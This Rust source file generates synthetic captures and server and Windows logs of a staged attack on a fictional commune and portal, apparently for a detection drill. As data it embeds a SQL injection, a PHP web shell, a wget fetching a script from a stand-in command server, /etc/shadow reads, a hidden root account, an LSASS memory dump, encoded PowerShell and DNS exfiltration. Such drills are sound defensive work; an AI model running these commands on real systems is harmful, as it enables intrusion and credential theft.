//! The attack of the drill, second by second, among ordinary traffic; the same for the same start and seed.
//!
//! A made-up commune (its gateway has a sensor) and a made-up public-service portal (a sensor before it, and its
//! logs). All addresses are from the documentation and private ranges (RFC 5737, RFC 1918), all names end in
//! `.example` (RFC 2606).

use std::net::Ipv4Addr;
use std::time::Duration;

use anyhow::Result;
use dongson_event::Timestamp;
use rand::rngs::StdRng;
use rand::{RngExt as _, SeedableRng as _};
use serde_json::json;

use super::messages::{
    certificate, dns_answer, dns_question, dns_text, http_answer, http_request, tls_conversation,
};
use super::wire::{Capture, Ending, Peer};

/// How long the attack lasts, from its first packet to its last.
pub(crate) const LENGTH: Duration = Duration::from_mins(14);

const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
const COMMAND_SERVER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 99);
const PORTAL: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 20);
const WORKSTATION: Ipv4Addr = Ipv4Addr::new(192, 168, 10, 21);
const FILE_SERVER: Ipv4Addr = Ipv4Addr::new(192, 168, 10, 5);
const RESOLVER: Ipv4Addr = Ipv4Addr::new(192, 168, 10, 1);
const PORTAL_NAME: &str = "dichvucong.dien-tap.example";
const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0";

/// What the drill sends: two captures and the logs of two places.
#[derive(Debug, Default)]
pub(crate) struct Artifacts {
    /// Before the public-service portal.
    pub(crate) portal: Capture,
    /// At the commune's gateway.
    pub(crate) commune: Capture,
    /// Lines of the portal's web server, in the combined format.
    pub(crate) nginx: Vec<String>,
    /// Lines of the portal's syslog (sshd, sudo) and audit daemon.
    pub(crate) linux: Vec<String>,
    /// Events of the commune's workstation and file server as Winlogbeat sends them, one JSON object each.
    pub(crate) windows: Vec<String>,
}

/// Makes everything for an attack that begins at `start`.
pub(crate) fn make(start: Timestamp, seed: u64) -> Result<Artifacts> {
    let mut drill = Drill { out: Artifacts::default(), random: StdRng::seed_from_u64(seed), start };
    drill.ordinary_traffic();
    drill.scan();
    drill.web_exploit();
    drill.webshell();
    drill.password_guessing();
    drill.credential_theft();
    drill.lateral_movement();
    drill.beacon()?;
    drill.dns_exfiltration();
    Ok(drill.out)
}

struct Drill {
    out: Artifacts,
    random: StdRng,
    start: Timestamp,
}

impl Drill {
    fn at(&self, seconds: u64) -> Timestamp {
        self.start.plus(Duration::from_secs(seconds))
    }

    fn jitter(&mut self, moment: Timestamp, most_millis: u64) -> Timestamp {
        moment.plus(Duration::from_millis(self.random.random_range(0..=most_millis)))
    }

    fn client_port(&mut self) -> u16 {
        self.random.random_range(32_768..60_999)
    }

    /// Citizens read the portal; the commune's machines browse and look names up.
    fn ordinary_traffic(&mut self) {
        let pages = ["/", "/thu-tuc", "/thu-tuc/khai-sinh", "/tra-cuu-ho-so", "/static/app.css", "/lien-he"];
        for index in 0..160_u64 {
            let moment = self.at(index * 5);
            let moment = self.jitter(moment, 4_000);
            let citizen = Ipv4Addr::new(192, 0, 2, self.random.random_range(1..250));
            let page = pages.get(self.random.random_range(0..pages.len())).copied().unwrap_or("/");
            self.web_visit(moment, citizen, ("GET", page, ""), BROWSER, (200, "<html>Dịch vụ công</html>"));
        }
        let names = ["vanban.dien-tap.example", "mail.dien-tap.example", "www.example", "time.example"];
        for index in 0..120_u64 {
            let moment = self.at(index * 7);
            let moment = self.jitter(moment, 5_000);
            let name = names.get(self.random.random_range(0..names.len())).copied().unwrap_or("www.example");
            let machine = Ipv4Addr::new(192, 168, 10, self.random.random_range(20..40));
            let address = Ipv4Addr::new(198, 51, 100, self.random.random_range(30..60));
            self.lookup(moment, machine, name, address);
        }
    }

    /// One visit of the portal: in the capture before it and in the log of its web server.
    fn web_visit(
        &mut self,
        at: Timestamp,
        from: Ipv4Addr,
        (method, target, body): (&str, &str, &str),
        agent: &str,
        (status, page): (u16, &str),
    ) {
        let reason = match status {
            200 => "OK",
            404 => "Not Found",
            _ => "Internal Server Error",
        };
        let turns = [
            (true, http_request(method, PORTAL_NAME, target, agent, body)),
            (false, http_answer(status, reason, "text/html; charset=utf-8", page)),
        ];
        let client = Peer::new(from, self.client_port());
        self.out.portal.conversation(at, client, Peer::new(PORTAL, 80), &turns, Ending::Closed);
        self.out.nginx.push(format!(
            "{from} - - [{}] \"{method} {target} HTTP/1.1\" {status} {} \"-\" \"{agent}\"",
            common_log_time(at),
            page.len()
        ));
    }

    fn lookup(&mut self, at: Timestamp, machine: Ipv4Addr, name: &str, address: Ipv4Addr) {
        let id = self.random.random();
        let client = Peer::new(machine, self.client_port());
        self.out.commune.exchange(
            at,
            Duration::from_millis(12),
            client,
            Peer::new(RESOLVER, 53),
            &dns_question(id, name, 1),
            &dns_answer(id, name, Some(address)),
        );
    }

    /// Stage 1: the portal's ports, then its paths.
    fn scan(&mut self) {
        for index in 0..150_u64 {
            let port = u16::try_from(index * 53 % 9_973 + 1).unwrap_or(1);
            let ending = if index % 3 == 0 { Ending::Refused } else { Ending::Silent };
            let at = self.at(60).plus(Duration::from_millis(index * 120));
            let client = Peer::new(ATTACKER, self.client_port());
            self.out.portal.conversation(at, client, Peer::new(PORTAL, port), &[], ending);
        }
        let paths = [
            "/.git/config",
            "/.env",
            "/wp-login.php",
            "/phpmyadmin/",
            "/backup.zip",
            "/admin/",
            "/server-status",
        ];
        for index in 0..60_u64 {
            let path = paths.get(usize::try_from(index).unwrap_or(0) % paths.len()).copied().unwrap_or("/");
            let at = self.at(90).plus(Duration::from_millis(index * 300));
            self.web_visit(at, ATTACKER, ("GET", path, ""), "Nikto/2.5.0", (404, "<html>404</html>"));
        }
    }

    /// Stage 2: an injection into the search, then a script through the upload form.
    fn web_exploit(&mut self) {
        let injection = "/tra-cuu-ho-so?ma=1%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-";
        for step in 0..4 {
            let at = self.at(130 + step * 6);
            self.web_visit(at, ATTACKER, ("GET", injection, ""), BROWSER, (500, "<html>500</html>"));
        }
        let at = self.at(170);
        self.web_visit(
            at,
            ATTACKER,
            ("POST", "/ho-so/tai-len?ten=anh-dai-dien.php", "<?php system($_GET['cmd']); ?>"),
            BROWSER,
            (200, "{\"tep\":\"/uploads/anh-dai-dien.php\"}"),
        );
    }

    /// Stage 3: commands through the uploaded script; the audit daemon sees the web server start a shell.
    fn webshell(&mut self) {
        let commands =
            ["id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://203.0.113.99/a.sh%20-O%20/tmp/a.sh"];
        for (index, command) in (0_u64..).zip(commands) {
            let at = self.at(190 + index * 9);
            let target = format!("/uploads/anh-dai-dien.php?cmd={command}");
            self.web_visit(at, ATTACKER, ("GET", &target, ""), BROWSER, (200, "uid=33(www-data)"));
            let plain = command.replace("%20", " ");
            self.audit_exec(at, 300 + index, 33, "/usr/bin/dash", &["sh", "-c", &plain]);
        }
        let at = self.at(240);
        self.audit_exec(
            at,
            320,
            33,
            "/usr/bin/wget",
            &["wget", "http://203.0.113.99/a.sh", "-O", "/tmp/a.sh"],
        );
    }

    /// The SYSCALL and EXECVE records of one started program.
    fn audit_exec(&mut self, at: Timestamp, serial: u64, uid: u32, exe: &str, args: &[&str]) {
        let stamp = format!("{}.{:03}:{serial}", at.seconds(), at.millis().rem_euclid(1_000));
        let comm = args.first().copied().unwrap_or_default();
        self.out.linux.push(format!(
            "type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=812 pid={} auid=4294967295 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm=\"{comm}\" exe=\"{exe}\" key=\"exec\"",
            4_000 + serial
        ));
        let list: Vec<String> =
            (0..).zip(args).map(|(index, arg)| format!("a{index}={}", audit_text(arg))).collect();
        self.out.linux.push(format!(
            "type=EXECVE msg=audit({stamp}): argc={} {}",
            args.len(),
            list.join(" ")
        ));
    }

    /// Stage 4a: passwords of the portal's SSH, until one fits; then root by sudo.
    fn password_guessing(&mut self) {
        for index in 0..24_u64 {
            let at = self.at(300 + index * 2);
            let user = ["root", "admin", "quantri"]
                .get(usize::try_from(index % 3).unwrap_or(0))
                .copied()
                .unwrap_or("root");
            let port = self.client_port();
            self.syslog(
                at,
                &format!(
                    "sshd[{}]: Failed password for {user} from {ATTACKER} port {port} ssh2",
                    5_000 + index
                ),
            );
            let turns = [
                (false, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n".to_vec()),
                (true, b"SSH-2.0-libssh2_1.11.0\r\n".to_vec()),
            ];
            self.out.portal.conversation(
                at,
                Peer::new(ATTACKER, port),
                Peer::new(PORTAL, 22),
                &turns,
                Ending::Closed,
            );
        }
        let at = self.at(352);
        self.syslog(
            at,
            &format!("sshd[5100]: Accepted password for quantri from {ATTACKER} port 51514 ssh2"),
        );
        let at = self.at(360);
        self.syslog(
            at,
            "sudo[5123]:  quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/bin/cat /etc/shadow",
        );
        let at = self.at(366);
        self.syslog(at, "sudo[5130]:  quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 -m hotro");
    }

    fn syslog(&mut self, at: Timestamp, text: &str) {
        self.out.linux.push(format!("<86>1 {at} cong-dvc {}", rfc5424_body(text)));
    }

    /// Stage 4b: on the commune's workstation the memory of LSASS is written to a file.
    fn credential_theft(&mut self) {
        let at = self.at(420);
        let command =
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\ls.dmp full";
        self.process_created(
            at,
            ("C:\\Windows\\System32\\rundll32.exe", command),
            ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start.bat"),
        );
        let at = self.at(421);
        self.sysmon(
            at,
            10,
            "PC-VANTHU01",
            &json!({
                "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
                "SourceProcessId": "4412",
                "TargetImage": "C:\\Windows\\System32\\lsass.exe",
                "TargetProcessId": "652",
                "GrantedAccess": "0x1fffff",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+22b0",
                "SourceUser": "DIENTAP\\vanthu",
            }),
        );
        let at = self.at(440);
        let command = "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
        self.process_created(
            at,
            ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", command),
            ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start.bat"),
        );
    }

    fn process_created(
        &mut self,
        at: Timestamp,
        (image, command): (&str, &str),
        (parent, parent_command): (&str, &str),
    ) {
        self.sysmon(
            at,
            1,
            "PC-VANTHU01",
            &json!({
                "Image": image,
                "CommandLine": command,
                "ParentImage": parent,
                "ParentCommandLine": parent_command,
                "ProcessId": "4412",
                "ParentProcessId": "3120",
                "User": "DIENTAP\\vanthu",
                "IntegrityLevel": "High",
                "CurrentDirectory": "C:\\Users\\vanthu\\",
                "OriginalFileName": image.rsplit('\\').next().unwrap_or_default().to_uppercase(),
            }),
        );
    }

    fn sysmon(&mut self, at: Timestamp, event_id: u32, computer: &str, data: &serde_json::Value) {
        self.windows_event(
            at,
            ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"),
            event_id,
            computer,
            data,
        );
    }

    fn windows_event(
        &mut self,
        at: Timestamp,
        (channel, provider): (&str, &str),
        event_id: u32,
        computer: &str,
        data: &serde_json::Value,
    ) {
        let record = 90_000 + self.out.windows.len();
        self.out.windows.push(
            json!({
                "@timestamp": at.to_string(),
                "agent": {"type": "winlogbeat", "version": "8.15.0", "name": computer},
                "ecs": {"version": "8.0.0"},
                "event": {"code": event_id.to_string(), "kind": "event", "provider": provider},
                "host": {"name": computer, "os": {"family": "windows", "type": "windows"}},
                "log": {"level": "information"},
                "winlog": {
                    "channel": channel,
                    "provider_name": provider,
                    "event_id": event_id.to_string(),
                    "computer_name": computer,
                    "record_id": record,
                    "event_data": data,
                },
            })
            .to_string(),
        );
    }

    /// Stage 5: the file server, over SMB, by a service with a random name.
    fn lateral_movement(&mut self) {
        let smb = [&[0, 0, 0, 0x44, 0xfe, b'S', b'M', b'B', 64, 0][..], &[0; 58]].concat();
        for index in 0..3 {
            let at = self.at(500 + index * 4);
            let client = Peer::new(WORKSTATION, self.client_port());
            let turns = [(true, smb.clone()), (false, smb.clone())];
            self.out.commune.conversation(at, client, Peer::new(FILE_SERVER, 445), &turns, Ending::Closed);
        }
        let at = self.at(508);
        self.windows_event(
            at,
            ("Security", "Microsoft-Windows-Security-Auditing"),
            4624,
            "SRV-TEP01",
            &json!({
                "TargetUserName": "quantri", "TargetDomainName": "DIENTAP", "LogonType": "3",
                "IpAddress": WORKSTATION.to_string(), "IpPort": "50212", "AuthenticationPackageName": "NTLM",
                "WorkstationName": "PC-VANTHU01",
            }),
        );
        let at = self.at(510);
        self.windows_event(at, ("System", "Service Control Manager"), 7045, "SRV-TEP01", &json!({
            "ServiceName": "KxQzTbWn", "ImagePath": "%COMSPEC% /C echo whoami ^> \\\\127.0.0.1\\C$\\__out > %TEMP%\\x.bat & %COMSPEC% /C %TEMP%\\x.bat",
            "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
        }));
        let at = self.at(530);
        self.windows_event(
            at,
            ("Security", "Microsoft-Windows-Eventlog"),
            1102,
            "SRV-TEP01",
            &json!({
                "SubjectUserName": "quantri", "SubjectDomainName": "DIENTAP",
            }),
        );
    }

    /// Stage 6: a call to the command server every minute, with a certificate that signs itself.
    fn beacon(&mut self) -> Result<()> {
        let certificate = certificate("update-check.example")?;
        for index in 0..4_u64 {
            let at = self.at(560 + index * 60);
            let at = self.jitter(at, 900);
            let client = Peer::new(WORKSTATION, self.client_port());
            let turns = tls_conversation("", &certificate, &[310, 190]);
            self.out.commune.conversation(
                at,
                client,
                Peer::new(COMMAND_SERVER, 8_443),
                &turns,
                Ending::Closed,
            );
        }
        Ok(())
    }

    /// Stage 7: a file leaves in the names of DNS questions.
    fn dns_exfiltration(&mut self) {
        for index in 0..120_u64 {
            let at = self.at(780).plus(Duration::from_millis(index * 350));
            let chunk: String = (0..56).map(|_| base32_sign(self.random.random_range(0..32))).collect();
            let name = format!("{index:04x}.{chunk}.t.cdn-sync.example");
            let id = self.random.random();
            let client = Peer::new(WORKSTATION, self.client_port());
            self.out.commune.exchange(
                at,
                Duration::from_millis(30),
                client,
                Peer::new(RESOLVER, 53),
                &dns_question(id, &name, 16),
                &dns_text(id, &name, "ok"),
            );
        }
    }
}

/// A sign of base32 (RFC 4648, 6) in lower case; `number` below 32.
fn base32_sign(number: u8) -> char {
    char::from(if number < 26 { b'a' + number } else { b'2' + (number - 26) % 6 })
}

/// As the audit daemon writes arguments: in quotes, or in hexadecimal when they hold a space or a quote.
fn audit_text(text: &str) -> String {
    if text.bytes().all(|byte| byte.is_ascii_graphic() && byte != b'"') {
        format!("\"{text}\"")
    } else {
        hex::encode_upper(text)
    }
}

/// `sshd[5000]: text` as the fields of RFC 5424 after the host name.
fn rfc5424_body(text: &str) -> String {
    let (program, message) = text.split_once(": ").unwrap_or(("-", text));
    let (name, number) = program.split_once('[').unwrap_or((program, "-]"));
    format!("{name} {} - - {}", number.trim_end_matches(']'), message.trim_start())
}

/// `23/Nov/2026:09:05:12 +0700`, the time of the common log format.
fn common_log_time(at: Timestamp) -> String {
    jiff::Timestamp::from_second(at.seconds()).map_or_else(
        |_| at.to_string(),
        |moment| {
            moment
                .to_zoned(jiff::tz::TimeZone::fixed(jiff::tz::offset(7)))
                .strftime("%d/%b/%Y:%H:%M:%S %z")
                .to_string()
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_makes_the_same_bytes() {
        let start = Timestamp::from_seconds(1_795_000_000);
        let bytes = |seed| {
            let made = make(start, seed).unwrap();
            let mut file = Vec::new();
            made.portal.write(&mut file).unwrap();
            made.commune.write(&mut file).unwrap();
            (file, made.nginx, made.linux, made.windows)
        };
        assert_eq!(bytes(7), bytes(7));
        assert_ne!(bytes(7).0, bytes(8).0);
    }

    #[test]
    fn log_times_are_local() {
        assert_eq!(common_log_time(Timestamp::from_seconds(1_795_000_000)), "18/Nov/2026:18:06:40 +0700");
    }
}
